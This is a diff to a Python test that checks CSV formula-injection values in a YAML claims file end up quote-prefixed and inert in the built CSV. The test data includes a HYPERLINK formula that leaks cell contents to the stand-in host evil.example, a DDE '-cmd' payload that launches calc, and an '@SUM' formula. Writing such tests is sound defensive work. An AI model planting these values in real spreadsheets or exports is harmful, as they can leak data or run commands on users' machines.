@@ -348,11 +348,11 @@ def test_csv_cells_that_start_like_a_formula_are_made_inert(tmp_path: Path):
     claims = root / "content" / "flood" / "claims.yaml"
     edit(claims, "claimant: Alpha", "claimant: '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'")
     edit(claims, "claimant: Beta", "claimant: '-cmd|'' /C calc''!A0'")
-    edit(claims, "{measure: River rise, value: 3}", "{measure: '@SUM(1+1)', value: 3}")
+    edit(claims, "{measure: River rise, value: 3}", "{measure: '@SUM(A1+A2)', value: 3}")  # a measure's figures are checked
     result = run_build(root)
     assert result.code == 0, result.err
     rows = list(csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(encoding="utf-8"))))
     cells = [cell for row in rows for cell in row]
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
-    assert "'-cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
+    assert "'-cmd|' /C calc'!A0" in cells and "'@SUM(A1+A2)" in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
